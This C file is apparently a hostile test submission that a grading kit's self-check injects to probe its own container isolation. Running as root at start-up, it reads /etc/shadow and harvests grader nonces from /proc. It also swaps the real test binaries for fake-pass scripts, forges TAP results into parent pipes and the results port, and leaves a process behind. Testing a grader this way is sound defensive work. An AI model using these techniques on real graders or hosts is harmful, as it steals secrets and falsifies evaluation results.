/*
 * The lab04 attack of issue 8, as a root minictr does it (appended by the
 * self-check to the starter's namespaces.c; runs at minictr's start, as
 * root, once per container run). Every step says on stderr what it got;
 * none of it may turn into points, reach the grading machine or survive.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static const char *const kit_hostile_ids[] = {
	"isolation::hostname_isolated", "lifecycle::network_isolated", "lifecycle::user_maps_root_to_caller",
	"isolation::host_mounts_invisible", "isolation::old_root_unreachable", "lifecycle::readonly_rootfs",
	"isolation::pid1_and_no_host_process", "isolation::dev_minimal", "isolation::proc_sys_readonly",
	"isolation::masked_paths_masked", "limits::memory_oom_reported", "limits::pids_contain_fork_bomb",
	"limits::cpu_quota_throttles", "security::no_cap_sys_admin", "security::no_new_privs_and_seccomp_on",
	"security::seccomp_denies_keyctl", "security::seccomp_denies_user_namespaces", "security::seccomp_denies_mount",
	"security::seccomp_denies_ptrace", "security::seccomp_denies_kernel_code", "lifecycle::exit_status_propagated",
	"lifecycle::sigterm_ends_plain_cmd", "lifecycle::signals_forwarded", "lifecycle::orphans_reaped",
	"lifecycle::exec_failure_reported", "lifecycle::nothing_left_after_exit", "lifecycle::killed_runtime_leaves_nothing",
	"cgroup_files::v2_limits_written", "cgroup_files::v1_limits_written", "cgroup_files::join_writes_pid_everywhere",
};
#define KIT_HOSTILE_NIDS (sizeof kit_hostile_ids / sizeof *kit_hostile_ids)

static char kit_hostile_nonces[16][80];
static int kit_hostile_nnonces;

static void kit_hostile_say(const char *what, const char *detail)
{
	dprintf(2, "HOSTILE %s: %s\n", what, detail);
}

static void kit_hostile_nonce(const char *s, size_t n)
{
	if (kit_hostile_nnonces < 16 && n > 0 && n < 80) {
		memcpy(kit_hostile_nonces[kit_hostile_nnonces], s, n);
		kit_hostile_nonces[kit_hostile_nnonces++][n] = 0;
	}
}

/* the parent of pid, from /proc/pid/stat */
static int kit_hostile_ppid(int pid)
{
	char p[64], buf[512];
	snprintf(p, sizeof p, "/proc/%d/stat", pid);
	int fd = open(p, O_RDONLY);
	ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	char *rp = strrchr(buf, ')');
	int ppid = 0;
	char st;
	if (rp && sscanf(rp + 1, " %c %d", &st, &ppid) == 2)
		return ppid;
	return 0;
}

/* writes text as a fresh file, mode 0755 */
static int kit_hostile_plant(const char *path, const char *text)
{
	unlink(path);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (fd < 0)
		return -1;
	ssize_t w = write(fd, text, strlen(text));
	close(fd);
	return w < 0 ? -1 : 0;
}

static void kit_hostile_replace_tests(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	int n = 0;
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		char p[4096], script[8192];
		snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
		/* a runner of its own: the TAP file it is told, the END line
		 * with whatever nonce it finds (KIT_NONCE, or the nonce pipe) */
		snprintf(script, sizeof script,
			 "#!/bin/sh\n"
			 "tap= id=\n"
			 "for a; do case $a in --tap=*) tap=${a#--tap=} ;; --filter=*) id=$(echo \"${a#--filter=}\" | sed 's|/|::|') ;; esac; done\n"
			 "n=${KIT_NONCE:-$(head -n 1 <&4 2>/dev/null)}\n"
			 "[ -n \"$id\" ] && echo \"END $id $n\" >&3\n"
			 "[ -n \"$tap\" ] && printf 'TAP version 13\\n1..1\\nok - %%s\\n' \"$id\" >\"$tap\"\n"
			 "echo \"ok - $id\"\n"
			 "exit 0\n");
		n += kit_hostile_plant(p, script) == 0;
	}
	if (d)
		closedir(d);
	char msg[4200];
	snprintf(msg, sizeof msg, "%d test binaries under %s replaced by scripts printing passes", n, dir);
	kit_hostile_say("replace", msg);
}

/* forged END and TAP lines into every pipe of every ancestor */
static void kit_hostile_forge_pipes(void)
{
	int forged = 0;
	for (int pid = getppid(); pid > 1; pid = kit_hostile_ppid(pid)) {
		char p[64];
		snprintf(p, sizeof p, "/proc/%d/fd", pid);
		DIR *d = opendir(p);
		struct dirent *e;
		while (d && (e = readdir(d))) {
			char fp[128], link[128];
			snprintf(fp, sizeof fp, "/proc/%d/fd/%.40s", pid, e->d_name);
			ssize_t n = readlink(fp, link, sizeof link - 1);
			if (n <= 0)
				continue;
			link[n] = 0;
			if (strncmp(link, "pipe:", 5))
				continue;
			/* a pipe with a nonce waiting in it (KIT_NONCE_FD) */
			int r = open(fp, O_RDONLY | O_NONBLOCK);
			char buf[128];
			ssize_t got = r >= 0 ? read(r, buf, sizeof buf) : -1;
			if (got > 0)
				kit_hostile_nonce(buf, strcspn(buf, "\n") < (size_t)got ? strcspn(buf, "\n") : (size_t)got);
			if (r >= 0)
				close(r);
			int w = open(fp, O_WRONLY | O_NONBLOCK);
			if (w < 0)
				continue;
			for (size_t i = 0; i < KIT_HOSTILE_NIDS; i++) {
				char line[256];
				for (int k = 0; k < (kit_hostile_nnonces ? kit_hostile_nnonces : 1); k++) {
					int len = snprintf(line, sizeof line, "END %s %s\nok - %s\n", kit_hostile_ids[i],
							   kit_hostile_nnonces ? kit_hostile_nonces[k] : "0", kit_hostile_ids[i]);
					forged += write(w, line, len) == len;
				}
			}
			close(w);
		}
		if (d)
			closedir(d);
	}
	char msg[128];
	snprintf(msg, sizeof msg, "%d forged END/TAP lines written, %d nonce candidates", forged, kit_hostile_nnonces);
	kit_hostile_say("forge", msg);
}

/* the results port: a node of its own, then forged records */
static void kit_hostile_port(void)
{
	DIR *d = opendir("/sys/class/virtio-ports");
	struct dirent *e;
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		char p[300], dev[32] = "";
		snprintf(p, sizeof p, "/sys/class/virtio-ports/%s/dev", e->d_name);
		int fd = open(p, O_RDONLY);
		ssize_t n = fd >= 0 ? read(fd, dev, sizeof dev - 1) : -1;
		if (fd >= 0)
			close(fd);
		unsigned maj, min;
		if (n <= 0 || sscanf(dev, "%u:%u", &maj, &min) != 2)
			continue;
		unlink("/tmp/kit-hostile-port");
		mknod("/tmp/kit-hostile-port", S_IFCHR | 0600, makedev(maj, min));
		int w = open("/tmp/kit-hostile-port", O_WRONLY | O_NONBLOCK);
		char msg[128];
		if (w < 0) {
			snprintf(msg, sizeof msg, "%.40s refused: %.60s", e->d_name, strerror(errno));
		} else {
			for (size_t i = 0; i < 40; i++) {
				char rec[128];
				int len = snprintf(rec, sizeof rec, "STATUS %zu 8\nexit 0 1\n", i);
				if (write(w, rec, len) < 0)
					break;
			}
			close(w);
			snprintf(msg, sizeof msg, "%.40s OPENED and written", e->d_name);
		}
		kit_hostile_say("port", msg);
		unlink("/tmp/kit-hostile-port");
	}
	if (d)
		closedir(d);
}

__attribute__((constructor)) static void kit_hostile_attack(void)
{
	char buf[512], msg[600];
	/* the grading host's secrets */
	int fd = open("/etc/shadow", O_RDONLY);
	ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
	if (fd >= 0)
		close(fd);
	buf[n > 0 ? n : 0] = 0;
	snprintf(msg, sizeof msg, "%s", n > 0 ? buf : strerror(errno));
	kit_hostile_say("shadow", msg);
	/* a file planted on the "host" */
	static const char *const marks[] = { "/tmp/kit-hostile-lab04-marker", "/var/tmp/kit-hostile-lab04-marker",
					      "/root/kit-hostile-lab04-marker" };
	for (size_t i = 0; i < sizeof marks / sizeof *marks; i++)
		kit_hostile_plant(marks[i], "planted by a lab04 submission\n");
	/* the kit and the nonces through /proc */
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = 0;
	while (d && (e = readdir(d))) {
		char p[300];
		snprintf(p, sizeof p, "/proc/%s/environ", e->d_name);
		fd = open(p, O_RDONLY);
		n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
		if (fd >= 0)
			close(fd);
		for (ssize_t k = 0; k < n; k += strlen(buf + k) + 1) {
			buf[n] = 0;
			if (!strncmp(buf + k, "KIT_NONCE=", 10))
				kit_hostile_nonce(buf + k + 10, strlen(buf + k + 10));
			if (!strncmp(buf + k, "KIT_", 4))
				found++;
		}
	}
	if (d)
		closedir(d);
	int mem = open("/proc/1/mem", O_RDONLY);
	snprintf(msg, sizeof msg, "%d KIT_ variables in other processes; /proc/1/mem: %s; /dev/mem: %s", found,
		 mem >= 0 ? "OPENED" : strerror(errno), open("/dev/mem", O_RDONLY) >= 0 ? "OPENED" : strerror(errno));
	if (mem >= 0)
		close(mem);
	kit_hostile_say("proc", msg);
	/* the test binaries, where the VM and the host keep them */
	const char *root = getenv("KIT_ROOT");
	char tests[4096];
	snprintf(tests, sizeof tests, "%s/build/lab04/tests", root ? root : "/kit");
	kit_hostile_replace_tests(tests);
	kit_hostile_replace_tests("/kit/build/lab04/tests");
	kit_hostile_forge_pipes();
	kit_hostile_plant("/tmp/kit-test.tap", "TAP version 13\nok 1 - everything\n");
	kit_hostile_port();
	/* something left running, in a session of its own */
	if (fork() == 0) {
		/* holding none of minictr's pipes: the test must not wait for it */
		int null = open("/dev/null", O_RDWR);
		for (int k = 0; k < 1024; k++)
			if (k != null)
				close(k);
		dup2(null, 0);
		dup2(null, 1);
		dup2(null, 2);
		setsid();
		execl("/bin/sleep", "sleep", "313", (char *)NULL);
		_exit(0);
	}
}
